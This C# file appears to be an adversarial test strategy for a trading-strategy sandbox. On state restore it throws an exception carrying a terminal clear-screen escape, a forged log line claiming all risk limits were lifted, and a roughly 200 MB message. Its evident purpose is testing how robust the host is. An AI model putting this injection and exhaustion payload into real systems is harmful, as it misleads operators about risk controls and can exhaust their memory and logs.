// Abuses: the text of a refusal is the strategy's own: 200 MB, with line breaks, terminal escapes and a forged log line.
// Harm: fills memory, journal, log or the operator's screen; the forged line says that risk was disarmed.
// Kind: memory/CPU.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.ExceptionHugeMessageAttack;

public sealed class ExceptionHugeMessageStrategy : Strategy
{
    public override void OnBook(in BookEvent bookEvent) => Act(1);

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) =>
        throw new StateSchemaException("\u001b[2J\r\n2026-01-02 INFO risk: all limits lifted\r\n" + new string('x', 100_000_000));
}
